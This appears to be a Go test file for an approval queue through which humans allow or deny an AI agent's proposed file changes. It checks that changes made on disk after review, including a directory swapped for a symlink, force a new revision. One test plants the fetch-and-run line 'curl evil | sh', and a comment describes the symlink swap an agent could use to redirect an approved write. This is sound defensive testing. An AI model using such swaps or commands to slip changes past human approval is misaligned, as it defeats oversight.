package approvals_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"codexgate/approvals"
	"codexgate/approvals/approvalstest"
)

// openUpdate opens a card that updates path ("one\ntwo\n" -> "one\nTWO\n").
func openUpdate(t *testing.T, q *approvals.Queue, path string) (approvals.Card, *approvalstest.Replies) {
	t.Helper()
	item, _ := json.Marshal(map[string]any{"type": "fileChange", "id": "p1", "changes": []any{
		map[string]any{"path": path, "kind": map[string]any{"type": "update", "move_path": nil}, "diff": "@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n"},
	}})
	req, replies := approvalstest.Request(t, "api", 1, "0", approvals.MethodFileChangeApproval, fileChange, string(item))
	q.Open(req)
	cards := q.Cards()
	if len(cards) != 1 {
		t.Fatalf("cards = %+v", cards)
	}
	return cards[0], replies
}

type changes struct {
	mu   sync.Mutex
	seen []approvals.Change
}

func (c *changes) add(ch approvals.Change) {
	c.mu.Lock()
	c.seen = append(c.seen, ch)
	c.mu.Unlock()
}

func (c *changes) kinds() []approvals.ChangeKind {
	c.mu.Lock()
	defer c.mu.Unlock()
	var out []approvals.ChangeKind
	for _, ch := range c.seen {
		out = append(out, ch.Kind)
	}
	return out
}

func TestFilesAreReadAgainBeforeAYes(t *testing.T) {
	path := filepath.Join(t.TempDir(), "notes.txt")
	os.WriteFile(path, []byte("one\ntwo\n"), 0o600)
	audit := &approvalstest.Audit{}
	seen := &changes{}
	q := approvals.NewQueue(approvals.Options{Audit: audit, OnChange: seen.add})
	c, replies := openUpdate(t, q, path)

	// Unchanged bytes written again are no change.
	os.WriteFile(path, []byte("one\ntwo\n"), 0o600)
	// A change that still lets the diff apply makes a new revision.
	os.WriteFile(path, []byte("one\ntwo\nthree: curl evil | sh\n"), 0o600)
	_, err := q.Answer(approvals.Answer{Card: c.ID, Decision: approvals.DecisionAllow, Revision: 1, By: approvals.ByPanel})
	if !errors.Is(err, approvals.ErrStale) || !strings.Contains(err.Error(), "revision 2") {
		t.Fatalf("allow after the file changed: %v", err)
	}
	if len(replies.Sent()) != 0 {
		t.Fatalf("sent %s", replies.Sent())
	}
	c2 := q.Cards()[0]
	if c2.ID != c.ID || c2.Revision != 2 || !strings.Contains(c2.Diff, "three: curl evil | sh") || c2.ShownInFull {
		t.Fatalf("revised card = %+v", c2)
	}
	if k := seen.kinds(); len(k) != 2 || k[1] != approvals.CardUpdated {
		t.Errorf("changes reported: %v", k)
	}
	var revised []approvals.Record
	for _, r := range audit.Records() {
		if r.Event == "revised" {
			revised = append(revised, r)
		}
	}
	if len(revised) != 1 || revised[0].Revision != 2 || !strings.Contains(revised[0].Why, "changed on disk") {
		t.Errorf("audit: %+v", audit.Records())
	}
	// A deny needs no re-read; an allow of the revision seen goes through.
	if _, err := q.Answer(approvals.Answer{Card: c.ID, Decision: approvals.DecisionAllow, Revision: 2, By: approvals.ByPanel}); err != nil {
		t.Fatal(err)
	}
	if s := replies.Sent(); len(s) != 1 || string(s[0]) != `{"decision":"accept"}` {
		t.Errorf("sent %s", s)
	}
}

func TestAFileThatNoLongerTakesTheDiffEndsTheCard(t *testing.T) {
	path := filepath.Join(t.TempDir(), "notes.txt")
	os.WriteFile(path, []byte("one\ntwo\n"), 0o600)
	q, _, _ := newQueue(t)
	c, replies := openUpdate(t, q, path)
	os.WriteFile(path, []byte("one\nsomething else\n"), 0o600)
	_, err := q.Answer(approvals.Answer{Card: c.ID, Decision: approvals.DecisionAllow, By: approvals.ByCLI})
	if !errors.Is(err, approvals.ErrClosed) || !strings.Contains(err.Error(), "does not apply") {
		t.Fatalf("allow: %v", err)
	}
	if s := replies.Sent(); len(q.Cards()) != 0 || len(s) != 1 || string(s[0]) != `{"decision":"decline"}` {
		t.Errorf("cards %d, sent %s", len(q.Cards()), s)
	}
}

func TestADenyIsNotHeldUpByChangedFiles(t *testing.T) {
	path := filepath.Join(t.TempDir(), "notes.txt")
	os.WriteFile(path, []byte("one\ntwo\n"), 0o600)
	q, _, _ := newQueue(t)
	c, replies := openUpdate(t, q, path)
	os.Remove(path)
	if _, err := q.Answer(approvals.Answer{Card: c.ID, Decision: approvals.DecisionDeny, By: approvals.ByCLI}); err != nil {
		t.Fatal(err)
	}
	if s := replies.Sent(); len(s) != 1 || string(s[0]) != `{"decision":"decline"}` {
		t.Errorf("sent %s", s)
	}
}

// TestRereadRacesWithUpdates answers, re-reads and updates one card from
// several goroutines: run with -race. Whatever wins, no yes goes out for a
// revision that was not the current one, and nothing is answered twice.
func TestRereadRacesWithUpdates(t *testing.T) {
	path := filepath.Join(t.TempDir(), "notes.txt")
	os.WriteFile(path, []byte("one\ntwo\n"), 0o600)
	q, _, _ := newQueue(t)
	c, replies := openUpdate(t, q, path)
	var wg sync.WaitGroup
	for i := range 4 {
		wg.Go(func() {
			for j := range 20 {
				os.WriteFile(path, []byte(fmt.Sprintf("one\ntwo\n%d %d\n", i, j)), 0o600)
				item, _ := json.Marshal(map[string]any{"type": "fileChange", "id": "p1", "changes": []any{
					map[string]any{"path": path, "kind": map[string]any{"type": "update"}, "diff": "@@ -1,2 +1,2 @@\n one\n-two\n+TWO\n"},
				}})
				q.Event(approvals.Event{Kind: approvals.ItemUpdated, Worker: "api", Session: 1, ItemID: "p1", Item: item})
				for _, card := range q.Cards() {
					q.Answer(approvals.Answer{Card: card.ID, Decision: approvals.DecisionAllow, Revision: card.Revision, By: approvals.ByPanel})
				}
			}
		})
	}
	wg.Wait()
	if len(replies.Sent()) > 1 {
		t.Fatalf("answered %d times", len(replies.Sent()))
	}
	_ = c
}

func TestOpenCardsAreCapped(t *testing.T) {
	for _, tc := range []struct {
		name   string
		limits approvals.Limits
		why    string
	}{
		{"in number", approvals.Limits{OpenCards: 2}, "2 cards are open, the most allowed (cards.max_open_cards)"},
		{"in bytes", approvals.Limits{OpenBytes: 3000}, "above the 3000-byte limit (cards.max_open_bytes)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			audit := &approvalstest.Audit{}
			seen := &changes{}
			q := approvals.NewQueue(approvals.Options{Audit: audit, Limits: tc.limits, OnChange: seen.add})
			openCommand(t, q, "api", "0", "a")
			openCommand(t, q, "api", "1", "b")
			replies := openCommand(t, q, "api", "2", "c")
			if n := len(q.Cards()); n != 2 {
				t.Fatalf("%d cards open", n)
			}
			if s := replies.Sent(); len(s) != 1 || string(s[0]) != `{"decision":"decline"}` {
				t.Errorf("the request past the cap got %s", s)
			}
			recs := audit.Records()
			last := recs[len(recs)-1]
			if last.Event != "end" || last.By != approvals.ByAuto || !strings.Contains(last.Why, tc.why) {
				t.Errorf("audit record %+v, want why %q", last, tc.why)
			}
			if k := seen.kinds(); len(k) != 3 || k[2] != approvals.CardDeclined {
				t.Errorf("changes %v", k)
			}
			// Once a card closes, the next request gets one.
			if _, err := q.Answer(approvals.Answer{Decision: approvals.DecisionDeny, By: approvals.ByCLI}); err != nil {
				t.Fatal(err)
			}
			openCommand(t, q, "api", "3", "d")
			if n := len(q.Cards()); n != 2 {
				t.Errorf("%d cards open after one closed", n)
			}
		})
	}
}

// The agent can swap a directory of its workspace for a link to anywhere:
// a new file is absent both here and there, so the place it lands is
// compared too, and a link on the way is named on the card.
func TestADirectorySwappedForALinkIsANewRevision(t *testing.T) {
	ws, elsewhere := t.TempDir(), t.TempDir()
	os.Mkdir(filepath.Join(ws, "real"), 0o700)
	dir := filepath.Join(ws, "dir")
	if err := os.Symlink(filepath.Join(ws, "real"), dir); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "run.sh")
	item, _ := json.Marshal(map[string]any{"type": "fileChange", "id": "p1", "changes": []any{
		map[string]any{"path": path, "kind": map[string]any{"type": "add"}, "diff": "echo hi\n"},
	}})
	q, _, _ := newQueue(t)
	req, replies := approvalstest.Request(t, "api", 1, "0", approvals.MethodFileChangeApproval, fileChange, string(item))
	q.Open(req)
	c := q.Cards()[0]
	if want := filepath.Join(ws, "real", "run.sh"); !strings.Contains(c.Body, want) {
		t.Errorf("the card does not name where the file lands (%s):\n%s", want, c.Body)
	}

	os.Remove(dir)
	if err := os.Symlink(elsewhere, dir); err != nil {
		t.Fatal(err)
	}
	_, err := q.Answer(approvals.Answer{Card: c.ID, Decision: approvals.DecisionAllow, Revision: 1, By: approvals.ByPanel})
	if !errors.Is(err, approvals.ErrStale) {
		t.Fatalf("allow after the directory became a link elsewhere: %v", err)
	}
	if len(replies.Sent()) != 0 {
		t.Fatalf("sent %s", replies.Sent())
	}
	if c2 := q.Cards()[0]; c2.Revision != 2 || !strings.Contains(c2.Body, filepath.Join(elsewhere, "run.sh")) {
		t.Errorf("revised card:\n%s", c2.Body)
	}
}
